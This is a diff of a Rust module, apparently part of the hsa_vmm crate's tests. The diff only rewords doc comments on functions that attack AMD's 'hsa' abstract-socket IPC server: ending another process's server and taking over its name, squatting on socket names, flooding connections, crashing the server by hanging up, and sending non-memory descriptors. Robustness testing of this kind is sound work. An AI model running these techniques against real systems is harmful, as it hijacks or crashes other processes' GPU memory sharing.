@@ -1,4 +1,4 @@
-//! What a hostile process does with AMD's protocol: the abstract sockets `hsa<number>`.
+//! Attacks of a hostile process on AMD's protocol, the abstract sockets `hsa<number>`.
 
 use hsa_vmm::ipc::IpcHandle;
 use rustix::net::{
@@ -14,7 +14,7 @@ use std::sync::atomic::{AtomicUsize, Ordering};
 use std::time::{Duration, Instant};
 
 const PATIENCE: Duration = Duration::from_secs(20);
-/// What AMD's server reads at a time.
+/// The size of a request to AMD's server.
 const REQUEST: usize = 64;
 /// The request that ends AMD's server.
 const END: u64 = u64::MAX;
@@ -37,20 +37,20 @@ fn request(pointer: u64) -> [u8; REQUEST] {
     request
 }
 
-/// The address that a handle of AMD's server asks for.
+/// Returns the address that a handle requests from AMD's server.
 pub fn pointer(handle: &IpcHandle) -> u64 {
     u64::from_le_bytes(handle.to_bytes()[..8].try_into().expect("eight bytes"))
 }
 
-/// The memory of a handle, as AMD's server of its process hands it out.
+/// Fetches the memory of a handle from AMD's server of its process.
 fn fetch(handle: &IpcHandle) -> OwnedFd {
     let (mut stream, descriptor) = ask(handle.process, pointer(handle)).expect("a descriptor");
     stream.write_all(&request(0)).expect("it waits for this");
     descriptor
 }
 
-/// The memory at an address, as AMD's server hands it out; it holds its lock while it waits for
-/// something on the connection. `None` if there is no server, or it hands nothing out.
+/// Fetches the memory at an address from AMD's server, which holds its lock while it waits on the connection.
+/// Returns `None` if there is no server, or it sends nothing.
 pub fn ask(process: i32, pointer: u64) -> Option<(UnixStream, OwnedFd)> {
     let mut stream = connect(process).ok()?;
     stream.write_all(&request(pointer)).expect("it reads");
@@ -71,7 +71,7 @@ fn answer(stream: &UnixStream, descriptor: impl AsFd) {
     let mut control = SendAncillaryBuffer::new(&mut space);
     let descriptors = [descriptor.as_fd()];
     assert!(control.push(SendAncillaryMessage::ScmRights(&descriptors)));
-    // The other end may have gone.
+    // The other end may have disconnected.
     let _ = sendmsg(stream, &[IoSlice::new(b"y")], &mut control, SendFlags::NOSIGNAL);
 }
 
@@ -86,7 +86,7 @@ fn take_name(number: i32) -> UnixListener {
     }
 }
 
-/// Has another process's server end, takes its name, and hands out memory of one's own from then on.
+/// Ends another process's server, takes its name, and serves its own memory from then on.
 pub fn usurp(process: i32, own: &IpcHandle) {
     let mut stream = connect(process).expect("a server");
     stream.write_all(&request(END)).expect("it reads");
@@ -96,7 +96,7 @@ pub fn usurp(process: i32, own: &IpcHandle) {
     std::thread::spawn(move || {
         while let Ok((mut stream, _)) = listener.accept() {
             let mut request = [0; REQUEST];
-            // Whoever looks before asking does not ask.
+            // A library that checks the server does not request.
             if stream.read(&mut request).is_ok_and(|read| read > 0) {
                 answer(&stream, &memory);
                 let _ = stream.read(&mut request);
@@ -111,10 +111,10 @@ pub fn squat(process: i32) {
     std::mem::forget(names.collect::<Vec<_>>());
 }
 
-/// How many connections `flood` has held, each counted as often as it looked.
+/// The number of connections that `flood` has held, counted in each round.
 pub static FLOODED: AtomicUsize = AtomicUsize::new(0);
 
-/// Connects to all relays of others that it sees, for as long as this process lives.
+/// Connects to all relays of other processes that it finds, until this process ends.
 pub fn flood() {
     std::thread::spawn(|| {
         let mut connected = Vec::new();
@@ -136,8 +136,8 @@ pub fn flood() {
     });
 }
 
-/// Asks AMD's server for memory again and again, and hangs up before it answers, until it ends: it does
-/// if a connection ends after it has answered.
+/// Requests memory from AMD's server repeatedly and disconnects before the reply, until the server ends: a
+/// connection that ends after the reply ends the server.
 pub fn hang_up(handle: &IpcHandle, times: usize) {
     for _ in 0..times {
         let Ok(mut stream) = connect(handle.process) else { return };
@@ -146,7 +146,7 @@ pub fn hang_up(handle: &IpcHandle, times: usize) {
     }
 }
 
-/// Waits where this process's server would, and hands out what is no memory, and hangs up at once.
+/// Listens at this process's socket, sends a descriptor that is not memory, and disconnects at once.
 pub fn serve_and_hang_up() {
     let listener = take_name(std::process::id() as i32);
     std::thread::spawn(move || {
